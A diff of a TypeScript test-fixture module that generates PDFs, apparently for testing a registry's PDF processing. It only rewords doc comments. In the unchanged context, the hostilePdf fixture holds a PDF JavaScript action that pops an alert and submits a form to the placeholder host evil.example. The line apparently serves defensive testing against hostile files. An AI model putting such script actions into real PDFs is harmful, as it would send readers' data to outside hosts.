@@ -2,12 +2,12 @@ import PDFDocument from 'pdfkit'
 
 type Made = {
   pages: number
-  /** What stands on a page, from 1. */
+  /** Lines of a page, counted from 1. */
   lines?(page: number): string[]
   password?: string
-  /** Every so many pages one lies across. */
+  /** Interval of pages in landscape. */
   acrossEvery?: number
-  /** A page's link to another one, and to an address. */
+  /** Adds a link to another page, and one to an address. */
   links?: boolean
 }
 
@@ -20,7 +20,7 @@ const filler = (page: number) => [
   ),
 ]
 
-/** A PDF as a registry's own software writes them: text in standard fonts on A4. */
+/** Makes a PDF like the registry's own software does: text in standard fonts on A4. */
 export const makePdf = ({ pages, lines = filler, password, acrossEvery, links }: Made) =>
   new Promise<Buffer>((done, fail) => {
     const pdf = new PDFDocument({
@@ -47,7 +47,7 @@ export const makePdf = ({ pages, lines = filler, password, acrossEvery, links }:
     pdf.end()
   })
 
-/** A PDF out of its objects as they are written, for what no library writes: `objects[0]` is object 1, the catalogue. */
+/** Builds a PDF from raw objects, for content that no library writes: `objects[0]` is object 1, the catalogue. */
 export const rawPdf = (objects: string[]): Buffer => {
   let text = '%PDF-1.7\n'
   const places = objects.map((object, index) => {
@@ -66,7 +66,7 @@ const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\
 const page = (rest: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] ${rest} >>`
 const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
 
-/** One page that needs a character map (Japanese, nothing embedded) and a colour profile (printer's colours). */
+/** Makes one page that needs a character map (Japanese, not embedded) and a colour profile (CMYK). */
 export const needyPdf = () =>
   rawPdf([
     '<< /Type /Catalog /Pages 2 0 R >>',
@@ -81,7 +81,10 @@ export const needyPdf = () =>
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
   ])
 
-/** One page that tries everything a hostile file can: scripts on opening, on the page and in links, and calls home. */
+/**
+ * Makes one page that tries every attack of a hostile file: scripts on opening, on the page and in links, and network
+ * requests.
+ */
 export const hostilePdf = () => {
   const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);) >>'
   return rawPdf([
